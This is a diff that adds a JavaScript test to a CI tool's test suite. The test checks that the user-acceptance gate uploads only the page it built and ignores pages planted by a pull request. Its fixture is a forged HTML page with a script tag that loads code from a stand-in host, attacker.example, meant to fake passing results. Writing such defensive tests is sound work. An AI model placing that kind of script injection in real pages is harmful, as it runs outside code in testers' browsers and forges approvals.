@@ -8,6 +8,7 @@ import { runActionAsync, cliCase } from '../support/run.js';
 import { commitAll, emptyRepo, git } from '../support/repo.js';
 import { call, EXAMPLE, exited, launch, makeRun, project, serve, UAT, writeJson, writeSpec } from '../uat/support.js';
 import { ENV_CANARIES, expectNoCanary, sinks } from './support.js';
+import { artifactServer } from '../support/artifact-server.js';
 
 const ID = 'example-1.0.0';
 const RUN_ID = 'run-20261129T100000Z-abcd';
@@ -1205,5 +1206,44 @@ describe('#219 the job summary keeps what decides: a section past GitHub’s 1 M
     expect(named.outputs.verdict).toBe('failed');
     kept(named.summary);
     expect(named.summary).toMatch(/\*\*Still owed\*\*[\s\S]*who may not accept their own work/);
+  });
+});
+
+describe('#229 uat-gate: the page handed to the tester is the page proofgate built, and nothing else', () => {
+  it('#229 a page the pull request committed in the pages folder (a recipe that fails lint, any other file) is not uploaded with the built one', async () => {
+    const dir = project();
+    writeFileSync(join(dir, 'package.json'), '{"version": "1.0.0"}');
+    // A second recipe of the version that does not lint (markup in its title): it gets no page...
+    const pay = ownRecipe('pay-1.0.0', '1.0.0');
+    pay.title = 'Pay <b>now</b>';
+    writeSpec(dir, pay);
+    // ...but the change commits one under its name: script from another site, an export of all passes whatever is clicked.
+    const forged = '<!doctype html><script src="https://attacker.example/uat.js"></script>';
+    mkdirSync(join(dir, UAT, 'pages', 'more'), { recursive: true });
+    writeFileSync(join(dir, UAT, 'pages', 'uat-pay-1.0.0.html'), forged);
+    writeFileSync(join(dir, UAT, 'pages', 'start-here.html'), forged);
+    writeFileSync(join(dir, UAT, 'pages', 'more', `uat-${ID}.html`), forged);
+    const artifacts = await artifactServer();
+    try {
+      const r = await runActionAsync(
+        'uat-gate.js',
+        dir,
+        { 'from-package-version': 'true', 'build-page': 'true', mode: 'gate' },
+        { env: artifacts.env },
+      );
+      expect(r.outputs.recipes).toBe(
+        JSON.stringify([
+          { id: ID, verdict: 'awaiting', 'exit-code': 2, page: join(dir, UAT, `pages/uat-${ID}.html`) },
+          { id: 'pay-1.0.0', verdict: 'lint-failed', 'exit-code': 1, page: null },
+        ]),
+      );
+      expect(r.stdout).toContain('artifact proofgate-uat-1.0.0 uploaded (1 file(s)');
+      const uploaded = artifacts.artifacts().get('proofgate-uat-1.0.0');
+      expect([...(uploaded?.keys() ?? [])]).toEqual([`uat-${ID}.html`]);
+      expect(uploaded?.get(`uat-${ID}.html`)?.toString('utf8')).toBe(readFileSync(join(dir, UAT, `pages/uat-${ID}.html`), 'utf8'));
+      expect(r.summary).toContain("The tester's page is attached to this run as an artifact (`uat-example-1.0.0.html`)");
+    } finally {
+      await artifacts.close();
+    }
   });
 });
